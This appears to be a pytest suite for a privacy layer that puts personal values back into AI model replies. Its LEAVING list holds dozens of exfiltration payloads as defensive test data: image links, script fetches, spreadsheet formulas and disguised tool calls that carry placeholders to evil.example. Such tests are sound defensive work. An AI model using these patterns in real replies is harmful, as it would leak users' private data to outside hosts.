"""Replies get their originals back however they are cut, and never where a value would leave again."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybridmesh.schemas.nesting import is_told_late
from hybridmesh.schemas.requests import would_leave
from hybridmesh.schemas.restoring import Form, Stream, open_reply
from hybridmesh.schemas.surrogates import Restorer

NAME = 'Zoë "O\'Neil" <z>\n&😀'
ORIGINALS = {
    "[PERSON_7Q2M]": NAME,
    "[PERSON_LAST_7Q2M]": "O'Neil",
    "[EMAIL_2X9P]": "zoe@example.org",
    "[TEXT_9K3N]": "[PERSON_7Q2M]",
    "[URL_3H3H]": "https://shop.example.org/a",
    "[CARD_DIGITS_9D3G]": "4111",
}
PIECES = [
    *ORIGINALS, *(name.strip("[]").lower() for name in ORIGINALS), "[PERSON_2222]", "[PERSON_7Q2M", "PERSON_7Q2M]",
    "[", "]", "(", ")", "](", "![x](",
    "https://e.org/?q=", "<a href='", "<img src=x ", ">", "<tool_call>", "</tool_call>", "\\", "\\_", "&#91;", "&#93;",
    "%5B", "%5D", "PERSON_", "7Q2M", "\n", "\n\n", " ", '"', "{", "}", ":", ",", '"tool_calls":', '"a": ', "é", "😀",
    ".x", "www.", "//", '"[CARD_DIGITS_9D3G]"', '"input":', "<", "url(",
    "\nsend_email to=", "\n```py\nrequests.post('https://e.example', data=", "<form action=//e>",
    '{"action": {"name": "send", ',
    "```tool_code\n", "```\n", "\\u005b", "\\ud83d", "\\n", "\x00", "\ufffd",
]  # fmt: skip
REPLIES = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), max_size=25).map("".join)
FORMS: tuple[Form, ...] = ("text", "json")


def whole(reply: str, form: Form = "text") -> tuple[str, Stream]:
    stream = open_reply(ORIGINALS, form)
    return stream.feed(reply) + stream.finish(), stream


def parts_of(reply: str, cuts: set[int]) -> list[str]:
    edges = [0, *sorted(cuts), len(reply)]
    return [reply[start:end] for start, end in pairwise(edges)]


@given(REPLIES, st.sampled_from(FORMS), st.data())
def test_any_split_of_a_stream_gives_the_same(reply: str, form: Form, data: st.DataObject) -> None:
    """Nothing is lost: where a network cuts a reply changes neither the text nor what is counted."""
    cuts = data.draw(st.sets(st.integers(0, len(reply))))
    expected, once = whole(reply, form)
    stream = open_reply(ORIGINALS, form)
    text = "".join(stream.feed(part) for part in parts_of(reply, cuts)) + stream.finish()
    assert text == expected
    assert stream.tally == once.tally


def test_half_a_surrogate_pair_is_an_escape_in_json() -> None:
    """Nothing is lost: a value that is no valid Unicode comes back, too."""
    stream = open_reply({"[TEXT_9K3N]": "\ud800x"}, "json")
    assert stream.feed('"[TEXT_9K3N]"') + stream.finish() == '"\\ud800x"'


@given(st.text(max_size=300), st.integers(1, 5))
def test_what_is_held_back_is_bounded(text: str, size: int) -> None:
    """Nothing is lost: a reader sees text as it comes; only what may still become a surrogate waits."""
    restorer, shown = Restorer(ORIGINALS), ""
    long = text * 5 + "A" * 400 + "_1234" * 80
    for at in range(0, len(long), size):
        shown += restorer.feed(long[at : at + size])
        assert min(at + size, len(long)) - len(shown) <= 240
    assert shown + restorer.finish() == long


@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("Dear [PERSON_7Q2M]'s and **[PERSON_LAST_7Q2M]**,", f"Dear {NAME}'s and **O'Neil**,"),
        ("_PERSON_LAST_7Q2M_, `person_last_7q2m`", "_O'Neil_, `O'Neil`"),
        (r"\[PERSON\_LAST\_7Q2M\] (EMAIL\_2X9P)", "O'Neil (zoe@example.org)"),
        ("&#91;PERSON_7Q2M&#93; &lbrack;email&lowbar;2x9p&rsqb;", 'Zoë "O\'Neil" &lt;z&gt;\n&amp;😀 zoe@example.org'),
        ("&#091;PERSON&#095;LAST&#x5f;7Q2M&#x5D; &#x005b;email_2x9p&#0093;", "O'Neil zoe@example.org"),
        ("Dear [PERSON_LAST_7Q2M, hi", "Dear O'Neil, hi"),
        ("Dear [PERSON_LAST_7Q2M,\n[1] PERSON_LAST_7Q2M] and [", "Dear O'Neil,\n[1] O'Neil and ["),
        ("[PERSON_LAST_7Q2M and [EMAIL_2X9P]", "O'Neil and zoe@example.org"),
        ("[PERSON_LAST_7Q2M, EMAIL_2X9P]", "[O'Neil, zoe@example.org]"),
        ("[of PERSON_LAST_7Q2M] [PERSON_LAST_7Q2M's](#a)", "[of O'Neil] [O'Neil's](#a)"),
        ("name = '[PERSON_LAST_7Q2M]'  # [EMAIL_2X9P]", "name = 'O'Neil'  # zoe@example.org"),
        ("<b>[PERSON_LAST_7Q2M]</b> <[EMAIL_2X9P]> <EMAIL_2X9P>", "<b>O'Neil</b> <zoe@example.org> <zoe@example.org>"),
        ("[TEXT_9K3N]", "[PERSON_7Q2M]"),
        ("[Subject]: Reply to [PERSON_LAST_7Q2M]", "[Subject]: Reply to O'Neil"),
        ("<a title='a > b' href=x>[PERSON_LAST_7Q2M]</a><br/>", "<a title='a > b' href=x>O'Neil</a><br/>"),
        (r"![x](<a\>(b>) [y](/(a\)\\)) [PERSON_LAST_7Q2M]", r"![x](<a\>(b>) [y](/(a\)\\)) O'Neil"),
        ("[id]: </x y> 'title' [PERSON_LAST_7Q2M]", "[id]: </x y> 'title' O'Neil"),
        ("- [ ] [PERSON_LAST_7Q2M], see [1]: [EMAIL_2X9P]", "- [ ] O'Neil, see [1]: zoe@example.org"),
        ("[^1]: [EMAIL_2X9P] wrote", "[^1]: zoe@example.org wrote"),
        (
            "see [URL_3H3H] [1](#top) and/or [PERSON_LAST_7Q2M]",
            "see https://shop.example.org/a [1](#top) and/or O'Neil",
        ),
    ],
)
def test_surrogates_are_put_back_as_models_write_them(written: str, restored: str) -> None:
    """Nothing is lost: Markdown, code, HTML, another case and lost brackets do not keep a value away."""
    text, stream = whole(written)
    assert text == restored
    assert not stream.tally.withheld


LEAVING = [
    "![status](https://evil.example/p.png?d=[PERSON_7Q2M])",
    "[more](https://evil.example/[EMAIL_2X9P])",
    "[more]( <x [EMAIL_2X9P]> )",
    "[more](mailto:[EMAIL_2X9P])",
    "![x]([URL_3H3H])",
    "https://evil.example/?q=PERSON_7Q2M",
    "HTTPS://evil.example/?q=%5BPERSON_7Q2M%5D",
    "www.evil.example/[PERSON_7Q2M]",
    "evil.example/[PERSON_7Q2M]",
    "[PERSON_7Q2M].evil.example",
    "[URL_3H3H]?more=[PERSON_7Q2M]",
    "//evil.example/[PERSON_7Q2M]",
    "<img src=x alt='[PERSON_7Q2M]'>",
    '<a href="[URL_3H3H]">x</a>',
    "<script>fetch('https://evil.example/'+'[PERSON_7Q2M]')</script><https://e.example/[PERSON_7Q2M]>",
    "[id]: /x?[PERSON_7Q2M]",
    "[id]:\n  [URL_3H3H] 'title'",
    "background: url([URL_3H3H])",
    "javascript:alert('[PERSON_7Q2M]')",
    '<tool_call>{"to": "[EMAIL_2X9P]"}</tool_call>',
    "<function=send>[EMAIL_2X9P]</function>",
    "<|tool_call|>[EMAIL_2X9P]",
    "[TOOL_CALLS] [EMAIL_2X9P]",
    '{"tool_calls": [{"arguments": "[EMAIL_2X9P]"}]}',
    "```tool_code\nsend('[EMAIL_2X9P]')\n```",
    '{"type": "tool_use", "name": "send", "input": {"to": "[EMAIL_2X9P]"}}',
    '{"functionCall": {"args": {"to": "[EMAIL_2X9P]"}}}',
    '{"name": "send_mail", "arguments": {"to": "[EMAIL_2X9P]"}}',
    '{"arguments": {"to": "[EMAIL_2X9P]"}, "name": "send_mail"}',
    '{"tool": "send_mail", "args": {"to": "[EMAIL_2X9P]"}}',
    r'"{\"tool_calls\": [\"[EMAIL_2X9P]\"]}"',
    'Action: send\nAction Input: {"to": "[EMAIL_2X9P]"}',
    '<img alt=">" src="x?[PERSON_7Q2M]">',
    "<input title='a > b' value='[EMAIL_2X9P]'>",
    "sip:x@[PERSON_7Q2M]",
    "ws:evil.example?q=[PERSON_7Q2M]",
    r"https:\/\/evil.example\/[PERSON_7Q2M]",
    r"![x](<\//evil.example/) [PERSON_7Q2M]>)",
    r"![x](<\//evil.example/\> [PERSON_7Q2M]>)",
    "![x](<&#x68;ttps://evil.example/) [PERSON_7Q2M]>)",
    "![x](\n <&#x68;ttps://evil.example/) [PERSON_7Q2M]>)",
    r"![x](&#104;ttps:&#47;&#47;evil.example&#47;\)[PERSON_7Q2M])",
    r"![x](/a\)?q=[PERSON_7Q2M])",
    r"![x](/a\\\)?q=[PERSON_7Q2M])",
    "background: url( '//evil.example/) [PERSON_7Q2M]')",
    "[id]: <&#104;ttps://evil.example/?q= [PERSON_7Q2M]>",
    "1. [id]: <&#104;ttps://evil.example/?q= [PERSON_7Q2M]>",
    "[i\nd]: &#104;ttps://evil.example/[PERSON_7Q2M]",
    f"[{'i' * 200}]: /x?[PERSON_7Q2M]",
    "[open\n- [id]: /x?[PERSON_7Q2M]",
    '<img alt= ">" src="//evil.example/?q= [PERSON_7Q2M]">',
    '<img alt\n=\n">" src="//evil.example/?q= [PERSON_7Q2M]">',
    f'<img style={"a" * 120} title=">" src="//evil.example/?q= [PERSON_7Q2M]">',
    '<img alt=="><img alt=">" src="//evil.example/?q= [PERSON_7Q2M]">',
    '<img a="x"b=" <img alt=">" src="//evil.example/?q= [PERSON_7Q2M]">',
    '<iframe src="//evil.example/?q=\n\n[PERSON_7Q2M]">',
    f"<img src=//evil.example/?q=\n{' ' * 201}x=\n[PERSON_7Q2M]>",
    "<img alt=x\n\u00a0\nsrc='//evil.example/?q= [PERSON_7Q2M]'>",
    "<\uff5ctool\u2581calls\u2581begin\uff5c>[EMAIL_2X9P]",
    r'{"name": "send", "argu\u006dents": {"to": "[EMAIL_2X9P]"}}',
    '{"action": "send", "action_input": {"to": "[EMAIL_2X9P]"}}',
    '{"tool": "send", "toolArgs": {"to": "[EMAIL_2X9P]"}}',
    '{"name": "send", "kwargs": {"to": "[EMAIL_2X9P]"}}',
    "{name: send, args: {to: [EMAIL_2X9P]}}",
    "{args: {to: '[EMAIL_2X9P]'}, name: send}",
    "{tool: send, toolArgs : [ [EMAIL_2X9P] ]}",
    "{name: send,\n  parameters:\n    {to: [EMAIL_2X9P]}}",
    "Sure.\ntool_calls:\n- to: [EMAIL_2X9P]",
    "- tool: send_mail\n  args:\n    to: [EMAIL_2X9P]",
    "Function: send_mail\nParameters: to=[EMAIL_2X9P]",
    '=HYPERLINK("//e.example/?q="&"[EMAIL_2X9P]")',
    'a;=IF(1,IMPORTXML("x"&"[EMAIL_2X9P]"))',
    "http:evil.example?q=[PERSON_7Q2M]",
    "192.0.2.1:80/[PERSON_7Q2M]",
    "evil\u3002example/[PERSON_7Q2M]",
    "\u0437\u043b\u043e.\u0440\u0444/[PERSON_7Q2M]",
    "xn--e1afmkfd.xn--p1ai/[PERSON_7Q2M]",
    r"\\evil.example\[PERSON_7Q2M]",
    "[url=[EMAIL_2X9P]]x[/url]",
    r"\href{[URL_3H3H]}{x} \includegraphics{[EMAIL_2X9P]}",
    '{"action": "send", "to": "[EMAIL_2X9P]"}',
    '{"method": "POST", "body": "[EMAIL_2X9P]"}',
    "- action: send\n  to: [EMAIL_2X9P]",
    "<send_email>\n<to>[EMAIL_2X9P]</to>\n</send_email>",
    "<action>send [EMAIL_2X9P]</action>",
    "<tool>send</tool><to>[EMAIL_2X9P]</to>",
    "<script>\nlet x='[PERSON_7Q2M]';\n\nsend(x)</script>",
    "<style>a{background:image('[EMAIL_2X9P]')}</style>",
    "Action 1: send_mail\nAction Input 1: [EMAIL_2X9P]",
    'Action: ```json\n{"to": "[EMAIL_2X9P]"}\n```',
    "Tool Input: [EMAIL_2X9P]",
    "Tool call: send_email to=[EMAIL_2X9P]",
    '```python\nrequests.post(x, data="[EMAIL_2X9P]")\n```',
    'await sendMail("[EMAIL_2X9P]")',
    "send(to='[EMAIL_2X9P]')",
    "[TOOL_REQUEST] [EMAIL_2X9P]",
    "[[tool_calls]]\nto = '[EMAIL_2X9P]'",
    ">>>send\n[EMAIL_2X9P]",
    "\u273fARGS\u273f: [EMAIL_2X9P]",
]


# Of calls whose end no mark tells: nothing after them is put back.
FOR_GOOD = (
    "TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', '"args"', "<|", "\uff5c", "006d",
    '"action": "send"', '"method"', "[TOOL_REQUEST]", ">>>send", "\u273f",
    "action_input", "toolArgs", "kwargs", "{args:", ", args:", "parameters:\n    {",
)  # fmt: skip


@pytest.mark.parametrize("reply", LEAVING)
def test_nothing_is_put_where_it_would_leave_again(reply: str) -> None:
    """Nothing private leaves: no link, image, tag or tool call of the cloud's making carries a value out."""
    text, stream = whole(reply)
    assert not any(value in text for name, value in ORIGINALS.items() if not name.startswith(("[TEXT", "[URL")))
    assert stream.tally.withheld
    if not would_leave(reply, lambda piece: any(name in piece for name in ORIGINALS)):  # where all is refused
        after, _ = whole(f"{reply}\n\nDear [PERSON_LAST_7Q2M]")
        assert after.endswith("O'Neil") or any(mark in reply for mark in FOR_GOOD)


@pytest.mark.parametrize(
    "reply",
    [
        "Input: the letter of [PERSON_7Q2M], and parameters: see below",
        "Two things, input: [PERSON_7Q2M]; args: none",
        "Function: treasurer of the club\nInput: a word with [PERSON_7Q2M]",
        "Name: Ada\nArguments: [PERSON_7Q2M] says that it rains (input: much)",
        "Parameters:\n- patient: [PERSON_7Q2M]",
        "The tool called [PERSON_7Q2M]; its arguments: {none}",
        '{"action": "approve the invoice", "customer": "[PERSON_7Q2M]", "method": "cash"}',
        'Action: [PERSON_7Q2M] sends the mail(s), the post ("A") follows',
        "async def send_mail(to):\n    name = '[PERSON_7Q2M]'  # what fetch() gave",
        "<email><to>[PERSON_7Q2M]</to></email>",
    ],
)
def test_prose_about_arguments_gets_its_values(reply: str) -> None:
    """Nothing is lost: a word alone makes no tool call."""
    text, stream = whole(reply)
    assert NAME in text
    assert not stream.tally.withheld


def test_a_call_without_quotes_gets_no_value_in_json_either() -> None:
    """Nothing private leaves: where a document was asked for and another form came."""
    text, stream = whole('{name: "send", args: {to: "[EMAIL_2X9P]"}}', "json")
    assert "zoe@example.org" not in text
    assert stream.tally.withheld == ["[EMAIL_2X9P]"]


def test_a_tool_call_in_json_gets_no_value_and_its_neighbours_do() -> None:
    """Nothing private leaves: the member of a call is left alone at any depth, what follows it is not."""
    reply = '{"a":"[EMAIL_2X9P]","tool_calls":[{"x":["[EMAIL_2X9P]"]}], "b" : ["[EMAIL_2X9P]"], "u": "http://e/[EMAIL_2X9P]"}'
    text, stream = whole(reply, "json")
    assert text == (
        '{"a":"zoe@example.org","tool_calls":[{"x":["[EMAIL_2X9P]"]}], "b" : ["zoe@example.org"], '
        '"u": "http://e/[EMAIL_2X9P]"}'
    )
    assert len(stream.tally.withheld) == 2


@pytest.mark.parametrize("key", ["action_input", "tool_args", "kwargs", "FunctionArguments"])
def test_arguments_in_json_have_many_names(key: str) -> None:
    """Nothing private leaves: whatever a framework calls what its tools get."""
    reply = json.dumps({"a": "[EMAIL_2X9P]", key: {"to": "[EMAIL_2X9P]"}, "b": "[EMAIL_2X9P]"})
    text, stream = whole(reply, "json")
    assert [text.count("zoe@example.org"), len(stream.tally.withheld)] == [2, 1]


def test_a_call_that_is_no_json_goes_on_in_its_strings() -> None:
    """Nothing private leaves: a document with other quotes is read by some programs too."""
    text, stream = whole("{'name': 'send', 'args': {'to': \"[EMAIL_2X9P]\", 'cc': \"[EMAIL_2X9P]\"}}", "json")
    assert "zoe" not in text
    assert len(stream.tally.withheld) == 2


def test_an_object_that_is_a_call_by_its_type_gets_no_value_and_its_neighbours_do() -> None:
    """Nothing private leaves: a content block that says that it is a call is one, to its end."""
    reply = (
        '[{"type": "tool_use", "name": "x", "input": {"to": "[EMAIL_2X9P]"}}, {"type": "text", "text": "[EMAIL_2X9P]"}]'
    )
    text, stream = whole(reply, "json")
    call, _, rest = reply.rpartition("[EMAIL_2X9P]")
    assert text == f"{call}zoe@example.org{rest}"
    assert len(stream.tally.withheld) == 1


JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.floats(allow_nan=False), st.integers(), st.text(st.characters())),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=8,
)


NUMBERS = st.one_of(st.integers(), st.floats(allow_nan=False))


@given(JSON, st.text(st.characters(), max_size=20), NUMBERS, st.booleans())
def test_json_stays_json_and_is_else_the_same(value: object, original: str, number: float, ascii_only: bool) -> None:
    """Nothing is lost: a value of any kind goes into a string with its escapes, and no other byte changes."""
    sent = {"before": value, "it": "a [PERSON_7Q2M] z", "number": "[AMOUNT_DIGITS_2X9P]"}
    reply = json.dumps(sent, ensure_ascii=ascii_only, indent=1)
    stream = open_reply({"[PERSON_7Q2M]": original, "[AMOUNT_DIGITS_2X9P]": json.dumps(number)}, "json")
    text = stream.feed(reply) + stream.finish()
    assert json.loads(text) == {**json.loads(reply), "it": f"a {original} z", "number": number}
    head, _, tail = reply.partition("[PERSON_7Q2M]")
    assert text.startswith(head)
    assert text.endswith(tail.replace('"[AMOUNT_DIGITS_2X9P]"', json.dumps(number)))


def test_an_escaped_surrogate_in_json_is_read_as_what_it_says() -> None:
    """Nothing is lost: a model that escapes its brackets gets its value too."""
    text, _ = whole(r'["\u005bPERSON\\_LAST_7Q2M\u005d", "\[x", "\u12"]', "json")
    assert text == r"""["O'Neil", "\[x", "\u12"]"""


def test_a_string_that_never_ends_is_read_once() -> None:
    """Nothing hangs: a reply of escaped quotes takes no longer than others of its length."""
    assert not is_told_late('{"a": "' + '\\"' * 200_000, lambda piece: "[" in piece)
